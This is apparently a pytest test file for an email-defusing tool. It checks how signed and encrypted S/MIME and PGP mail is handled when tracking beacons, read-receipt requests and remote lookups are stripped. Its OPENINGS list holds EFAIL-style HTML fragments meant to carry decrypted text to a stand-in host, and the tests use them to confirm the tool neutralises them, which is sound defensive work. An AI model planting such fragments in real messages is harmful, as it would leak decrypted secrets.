"""What signatures and encryption shelter from defusing, and what they do not."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from tests.mail.signers import (
    AT_S,
    FIELDS,
    PAGE,
    anchors,
    clear,
    key,
    opaque,
    opaque_body,
    pem,
    root,
    signature,
    signer,
    wrapped,
)
from tests.respond.test_samples import acting
from tocsin.app.anchors import AnchorsError, load_anchors
from tocsin.model.defused import Defused
from tocsin.respond.defuse import defuse

BEACON = b"https://t.beacon.example"
FOOTER = b'Content-Type: text/html\r\n\r\n<p>Footer</p><img src="https://footer.beacon.example/x.gif">'
RECEIPT = b"Disposition-Notification-To: <ruth@weekly-observer.example>\r\n"


def trusting(raw: bytes, number: int = 0) -> Defused:
    done = defuse(raw, anchors=anchors(root(number)), at_s=AT_S)
    assert defuse(done.raw, anchors=anchors(root(number)), at_s=AT_S).raw == done.raw
    return done


def mixed(*entities: bytes, fields: str = FIELDS) -> bytes:
    parts = b"".join(b"--out\r\n" + entity + b"\r\n" for entity in entities)
    head = f'{fields}Content-Type: multipart/mixed; boundary="out"\r\n\r\n'.encode()
    return head + parts + b"--out--\r\n"


def entity(raw: bytes) -> bytes:
    return raw.removeprefix(FIELDS.encode())


@pytest.mark.parametrize("build", [clear, opaque])
def test_what_a_verified_signature_covers_stays_byte_for_byte(build: object) -> None:
    raw = build()  # type: ignore[operator]
    done = trusting(RECEIPT + raw)
    assert done.signature.state == "verified"
    assert done.raw.endswith(raw.partition(b"MIME-Version: 1.0\r\n")[2])
    assert b"Disposition-Notification-To" not in done.raw
    assert not done.left


@pytest.mark.parametrize("build", [clear, opaque])
def test_no_other_signature_is_a_shelter(build: object) -> None:
    raw = build()  # type: ignore[operator]
    for done in (trusting(raw, 1), defuse(raw)):
        assert done.signature.state == "unverified"
        assert acting(done.raw) == []
        assert BEACON not in done.raw
        assert b"Dear Ann" in done.raw
    broken = trusting(clear().replace(b"Dear Ann", b"Dear Bob"))
    assert broken.signature.state == "broken"
    assert acting(broken.raw) == []


def test_what_stands_beside_the_signed_part_is_defused() -> None:
    done = trusting(mixed(entity(clear()), FOOTER))
    assert done.signature.state == "verified"
    assert b"footer.beacon.example" not in done.raw.replace(b"footer[.]beacon", b"")
    assert PAGE in done.raw
    beside = trusting(mixed(entity(opaque()), FOOTER))
    assert b'src="https://footer' not in beside.raw
    assert entity(opaque())[:100] in beside.raw


def test_mail_inside_an_opaque_signature_is_taken_out_however_deep() -> None:
    two = opaque_body(
        signature(
            opaque_body(signature(PAGE, signer(), key(10), opaque=True)), signer(), key(10), opaque=True
        )
    )
    for raw in (FIELDS.encode() + two, mixed(two, FOOTER)):
        done = trusting(raw, 1)
        assert b"Dear Ann" in done.raw
        assert acting(done.raw) == []
        assert any(one.what == "signature-removed" for one in done.done)
    deep = PAGE
    for _ in range(8):
        deep = opaque_body(signature(deep, signer(), key(10), opaque=True))
    assert acting(trusting(FIELDS.encode() + deep, 1).raw) == []


def test_what_only_says_that_it_is_cryptography_is_put_under_seal() -> None:
    for kind in ("pkcs7-signature", "pkcs7-mime", "pgp-encrypted", "pgp-signature", "pgp-keys"):
        raw = mixed(
            b"Content-Type: text/plain\r\n\r\nHi",
            f"Content-Type: application/{kind}; name=invoice.html\r\n\r\n<img src=https://t.beacon.example/>".encode(),
        )
        assert BEACON not in defuse(raw).raw, kind
    broken = mixed(b"Content-Type: application/pkcs7-mime\r\n\r\n0\x80nothing")
    assert [one.what for one in defuse(broken).done] == ["file-sealed"]


ENCRYPTED = {
    "smime": b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n"
    b"Content-Transfer-Encoding: base64\r\n\r\n"
    + wrapped(bytes.fromhex("3080 0609 2a864886f70d010703 a080 3080 020100 3100 3000 0000 0000 0000")),
    "openpgp": b'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="enc"\r\n\r\n'
    b"--enc\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--enc\r\n"
    b"Content-Type: application/octet-stream; name=encrypted.asc\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\n"
    b"hQEMA1111111111111111\r\n-----END PGP MESSAGE-----\r\n\r\n--enc--\r\n",
    "inline": b"Content-Type: text/plain\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA1111\r\n"
    b"-----END PGP MESSAGE-----\r\n",
}
OPENINGS = (
    b'<img src="https://t.beacon.example/?',
    b"<style>*{background:url('https://t.beacon.example/?",
    b"<form action=https://t.beacon.example/><textarea name=a>",
    b'<base href="https://t.beacon.example/"><a href=\'/?',
    b'<meta http-equiv=refresh content="0;https://t.beacon.example/?',
    b"<object data='https://t.beacon.example/?",
    b"<!-- <img src='https://t.beacon.example/?",
)


@pytest.mark.parametrize("kind", ENCRYPTED)
@pytest.mark.parametrize("opening", OPENINGS)
def test_html_around_an_encrypted_part_cannot_carry_its_text_away(kind: str, opening: bytes) -> None:
    html = b"Content-Type: text/html\r\n\r\n"
    raw = mixed(html + opening, ENCRYPTED[kind], html + b"\"'> --></textarea></form></style>")
    done = defuse(raw)
    assert ENCRYPTED[kind].strip() in done.raw
    assert acting(done.raw) == []
    # As programs do it that join the pieces and draw them as one page.
    secret = b"<p>secret</p>"
    joined = mixed(html + b"".join(pages(done.raw, secret)))
    assert acting(joined) == []
    assert b"t.beacon.example" not in joined


def pages(raw: bytes, secret: bytes) -> list[bytes]:
    from email import message_from_bytes, policy

    found: list[bytes] = []
    for part in message_from_bytes(raw, policy=policy.default).walk():
        if part.get_content_type() == "text/html":
            found.append(str(part.get_content()).encode())
        elif part.get_content_type() in ("application/pkcs7-mime", "application/octet-stream", "text/plain"):
            found.append(secret)
    return found


def test_a_signature_that_names_addresses_to_ask_is_taken_away_unless_verified() -> None:
    from cryptography import x509
    from cryptography.x509.oid import AuthorityInformationAccessOID

    where = x509.AccessDescription(
        AuthorityInformationAccessOID.OCSP, x509.UniformResourceIdentifier("http://ocsp.beacon.example/")
    )
    by = signer(more=((x509.AuthorityInformationAccess([where]), False),))
    raw = clear(b"Content-Type: text/plain\r\n\r\nDear Ann\r\n", by=by)
    done = trusting(raw, 1)
    assert {one.what for one in done.done} == {"file-sealed", "signature-removed"}
    assert b"multipart/signed" not in done.raw
    assert trusting(raw).raw.endswith(raw[-200:])


def run(*arguments: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "tocsin", "defuse", *arguments], capture_output=True, text=True, timeout=60
    )


def test_the_command_says_what_the_signature_is(tmp_path: Path) -> None:
    (tmp_path / "anchors").mkdir()
    (tmp_path / "anchors" / "root.pem").write_bytes(pem(root()))
    source = str(tmp_path / "in.eml")
    stamp = b"Received: from a.example by mx.parliament.example; Mon, 1 Jun 2026 12:00:00 +0000\r\n"
    (tmp_path / "in.eml").write_bytes(stamp + clear())
    done = run(source, "-o", str(tmp_path / "a.eml"), "--json", "--anchors", str(tmp_path / "anchors"))
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["signature"]["state"] == "verified"
    told = run(source, "-o", str(tmp_path / "b.eml"))
    assert told.returncode == 3
    assert "Signature: not verified" in told.stderr
    assert "no anchors were configured" in told.stderr


def test_anchors_that_are_none_are_told(tmp_path: Path) -> None:
    (tmp_path / "none.pem").write_text("-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n")
    (tmp_path / "key.pem").write_text("hello")
    (tmp_path / "empty").mkdir()
    wanted = {
        "none.pem": "damaged",
        "key.pem": "expected PEM",
        "empty": "holds no file",
        "gone": "No such file",
    }
    for name, words in wanted.items():
        with pytest.raises(AnchorsError, match=words) as caught:
            load_anchors(tmp_path / name)
        assert name in str(caught.value)
